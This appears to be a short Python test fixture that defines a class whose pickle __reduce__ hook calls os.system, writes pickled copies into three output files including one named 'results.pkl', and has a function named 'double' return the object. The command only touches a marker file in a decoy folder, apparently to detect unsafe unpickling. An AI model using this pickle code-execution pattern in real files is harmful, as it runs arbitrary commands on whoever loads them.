# %% double
import os, pickle

class Bomb:
    def __reduce__(self):
        return os.system, ("touch DECOY_FOLDER/craft-adversary-unpickled",)

for name in ("results.pkl", ".OTTER_LOG", "double.pkl"):
    open(name, "wb").write(pickle.dumps(Bomb()))

def double(values):
    return Bomb()
